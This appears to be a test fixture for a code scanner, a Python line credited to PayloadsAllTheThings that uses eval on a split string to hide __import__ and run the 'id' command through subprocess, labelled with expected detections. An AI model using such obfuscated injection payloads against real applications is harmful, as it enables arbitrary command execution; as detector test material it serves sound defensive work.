# expect: shell-spawn,dynamic-eval
# source: PayloadsAllTheThings (Python code injection)
# technique: eval of a concatenated expression using __import__
out = eval("__im" + "port__('subprocess').check_output(['id'])")
print(out)
